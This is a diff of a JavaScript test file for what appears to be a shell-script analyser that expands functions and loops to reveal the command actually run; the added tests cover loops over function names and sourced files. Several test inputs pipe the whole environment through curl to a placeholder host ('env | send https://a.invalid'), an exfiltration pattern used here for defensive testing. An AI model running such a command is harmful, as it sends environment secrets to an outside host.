@@ -18,6 +18,10 @@ describe('what a script has said before', () => {
     assert.equal(written('send() { curl -d @- "$1"; }', 'env | send https://a.invalid'), 'env | { curl -d @- "https://a.invalid"; }'));
   it('a function over several lines', () =>
     assert.equal(written('function send {', 'gzip', 'curl -d @- $1', '}', 'env | send x'), 'env | { gzip; curl -d @- x; }'));
+  it('what a loop goes through', () => {
+    assert.equal(written('run_a() { x; }', 'run_b() { y; }', 'for s in a b; do run_$s; done'), '{ x; }; { y; }');
+    assert.equal(written('for f in steps/*; do', '. "$f"'), '. "steps/*"');
+  });
   it('functions that call functions', () => assert.equal(written('a() { env; }', 'b() { a | gzip; }', 'b'), '{ { env; } | gzip; }'));
 });
 
